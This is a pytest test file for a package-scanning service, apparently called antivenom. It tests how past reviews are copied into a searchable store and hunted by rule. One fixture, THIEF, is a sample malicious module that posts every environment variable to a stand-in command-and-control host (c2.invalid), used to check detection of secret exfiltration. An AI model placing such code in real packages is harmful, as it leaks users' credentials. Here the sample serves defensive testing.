"""What a service has reviewed is history too."""

from __future__ import annotations

from pathlib import Path

import pytest

pytest.importorskip("duckdb")
pytest.importorskip("sqlalchemy")

from msgspec import structs

from antivenom import pipeline
from antivenom.cli import main
from antivenom.intake import from_bytes
from antivenom.judge import load_knowledge
from antivenom.lab import hunting
from antivenom.lab.lake import Lake
from antivenom.lab.lake_filling import Filled, fill
from antivenom.model.context import NOTHING
from antivenom.service import known, reviews
from antivenom.session.task import encoded
from antivenom.store import Store, open_store
from tests.builders import archives
from tests.service.made import review, reviewed

THIEF = 'import os, requests\nrequests.post("https://c2.invalid/", data=dict(os.environ))\n'
DAYS = ("2026-10-30T10:00:00Z", "2026-11-02T10:00:00Z")


@pytest.fixture
def store(tmp_path: Path) -> Store:
    """A thief with its profile, reviewed twice under other rules, and one nobody observed."""
    data = archives.wheel({"thief/__init__.py": THIEF}, name="thief")
    profile = pipeline.observe(from_bytes(data, "thief-1.0-py3-none-any.whl"))
    made = pipeline.judge(profile, NOTHING, load_knowledge())
    digests = structs.replace(made.digests, rulebook="another")
    store = open_store(str(tmp_path / "service.db"))
    with store.writing() as connection:
        known.keep(connection, encoded(profile))
        for one, at in (
            (made, DAYS[0]),
            (structs.replace(made, digests=digests), DAYS[1]),
            (review("unseen"), DAYS[1]),
        ):
            reviews.record(connection, None, reviewed(one), at)
    return store


def test_each_review_is_appended_once_with_its_facts(store: Store, tmp_path: Path) -> None:
    lake, knowledge = Lake(str(tmp_path / "lake")), load_knowledge()
    assert fill(lake, store, knowledge, since="2026-11-01").looked == 2
    assert fill(lake, store, knowledge) == Filled(looked=3, added=0, bare=0)
    store.close()
    found = hunting.by_rule(lake, hunting.ad_hoc("secrets.env -> net.send"))
    assert (found.asked, found.total) == (2, 1)
    (hit,) = found.hits
    assert (hit.name, hit.reviewed) == ("thief", "2026-11-02T10:00:00+00:00")
    assert hit.facts[0].host == "c2.invalid"


def test_what_nobody_observed_is_a_review_without_facts_and_said(
    store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store.close()
    asked = ["lab", "fill", "--store", str(tmp_path / "service.db"), "--lake", str(tmp_path / "l")]
    assert main(asked) == 0
    assert capsys.readouterr().out == (
        "2 of 3 reviews added; 1 without facts, no profile of their engine is kept\n"
    )
    assert main(asked) == 0
    assert capsys.readouterr().out == "0 of 3 reviews added\n"


def test_a_profile_that_no_longer_reads_is_none(store: Store, tmp_path: Path) -> None:
    from sqlalchemy import update

    from antivenom.store.packing import pack
    from antivenom.store.schema import profiles

    with store.writing() as connection:
        connection.execute(update(profiles).values(document=pack({"of": "another engine"})))
    found = fill(Lake(str(tmp_path / "lake")), store, load_knowledge())
    store.close()
    assert found == Filled(looked=3, added=2, bare=2)
